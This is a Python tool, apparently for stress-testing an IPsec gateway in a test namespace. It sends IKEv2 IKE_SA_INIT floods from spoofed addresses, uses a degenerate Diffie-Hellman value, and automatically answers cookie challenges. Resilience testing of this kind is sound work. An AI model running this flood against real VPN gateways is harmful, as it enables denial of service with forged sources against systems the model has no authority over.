"""Hostile IKE_SA_INIT requests for a gateway under test, inside the namespaces of the test.

ike_flood.py spoofed INTERFACE GATEWAY-MAC GATEWAY-ADDRESS NETWORK RATE SECONDS
    from made-up addresses of NETWORK, each with the value 1 for MODP-4096; RATE frames a second, 0: as fast as it goes
ike_flood.py cookies INTERFACE GATEWAY-MAC GATEWAY-ADDRESS NETWORK HOSTS SECONDS
    from the first HOSTS addresses of NETWORK, with a good value; each cookie that comes back is returned

Prints "ready", then begins, and at the end prints "sent N, cookies N".
"""

import ctypes
import ipaddress
import os
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 3
SOL_PACKET, PACKET_IGNORE_OUTGOING, PACKET_QDISC_BYPASS = 263, 23, 20
POOL = 4096
BATCH = 64


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(kind, number, following, attribute=b""):
    return struct.pack("!BBHBBH", following, 0, 8 + len(attribute), kind, 0, number) + attribute


def request(spi, value, nonce, cookie=None):
    """IKE_SA_INIT: [N(COOKIE)] SA KEi Ni, for AES-GCM-256, PRF-HMAC-SHA-256 and MODP-4096."""
    transforms = (
        transform(1, 20, 3, struct.pack("!HH", 0x800E, 256)) + transform(2, 5, 3) + transform(4, 16, 0)
    )
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    chain = payload(34, proposal) + payload(40, struct.pack("!HH", 16, 0) + value) + payload(0, nonce)
    first = 33
    if cookie is not None:
        chain = payload(33, struct.pack("!BBH", 0, 0, 16390) + cookie) + chain
        first = 41
    return struct.pack("!QQBBBBII", spi, 0, first, 0x20, 34, 0x08, 0, 28 + len(chain)) + chain


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def frame(link, source, target, message):
    udp = struct.pack("!HHHH", 500, 500, 8 + len(message), 0) + message
    fields = [0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target]
    fields[7] = checksum(struct.pack("!BBHHHBBHII", *fields))
    return link + struct.pack("!BBHHHBBHII", *fields) + udp


class IOVector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Header(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("vectors", ctypes.c_void_p),
        ("vector_count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    ]


class Message(ctypes.Structure):
    _fields_ = [("header", Header), ("length", ctypes.c_uint)]


def spoofed(port, link, gateway, network, rate, seconds):
    value = b"\0" * 511 + b"\1"
    hosts = min(network.num_addresses, 1 << 24) - 2
    frames = [
        frame(
            link, int(network.network_address) + 1 + (number * 2654435761) % hosts, gateway,
            request(int.from_bytes(os.urandom(8), "big") | 1, value, os.urandom(32)))
        for number in range(POOL)
    ]
    buffers = [ctypes.create_string_buffer(data, len(data)) for data in frames]
    vectors = (IOVector * POOL)()
    messages = (Message * POOL)()
    for number, buffer in enumerate(buffers):
        vectors[number] = IOVector(ctypes.addressof(buffer), len(frames[number]))
        messages[number].header.vectors = ctypes.addressof(vectors[number])
        messages[number].header.vector_count = 1
    library = ctypes.CDLL(None, use_errno=True)
    print("ready")
    start, sent = time.monotonic(), 0
    while (now := time.monotonic() - start) < seconds:
        if rate and sent > now * rate:
            time.sleep(min((sent - now * rate) / rate, 0.01))
            continue
        first = sent % POOL
        count = min(BATCH, POOL - first)
        done = library.sendmmsg(port.fileno(), ctypes.byref(messages[first]), count, 0)
        sent += done if done > 0 else count
    print(f"sent {sent}, cookies 0")


def cookies(port, link, gateway, network, hosts, seconds):
    value = b"\0" * 511 + b"\2"
    base = int(network.network_address) + 1
    nonces, sent, returned = {}, 0, 0
    print("ready")
    end, number = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for _ in range(16):
            spi = int.from_bytes(os.urandom(8), "big") | 1
            nonces[spi] = os.urandom(32)
            port.send(frame(link, base + number % hosts, gateway, request(spi, value, nonces[spi])))
            number += 1
            sent += 1
        if len(nonces) > 65536:
            nonces.clear()
        while select.select([port], [], [], 0.001)[0]:
            data = port.recv(65536)
            # Ethernet, IPv4 without options from the gateway, UDP from port 500, IKE with N(COOKIE) alone.
            if len(data) < 78 or data[12:14] != b"\x08\0" or data[23] != 17 or data[34:36] != b"\x01\xf4":
                continue
            spi = int.from_bytes(data[42:50], "big")
            if data[58] != 41 or data[76:78] != struct.pack("!H", 16390) or spi not in nonces:
                continue
            length = struct.unpack("!H", data[72:74])[0]
            answer = request(spi, value, nonces.pop(spi), data[78:70 + length])
            port.send(frame(link, int.from_bytes(data[30:34], "big"), gateway, answer))
            sent += 1
            returned += 1
    print(f"sent {sent}, cookies {returned}")


def main():
    mode, interface, hardware, address, network, number, seconds = sys.argv[1:]
    listens = mode == "cookies"
    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    port.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
    port.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    port.bind((interface, ETH_P_ALL if listens else 0))
    link = bytes.fromhex(hardware.replace(":", "")) + bytes.fromhex("020000006601") + b"\x08\0"
    gateway = int(ipaddress.ip_address(address))
    run = cookies if listens else spoofed
    run(port, link, gateway, ipaddress.ip_network(network), int(number), float(seconds))


main()
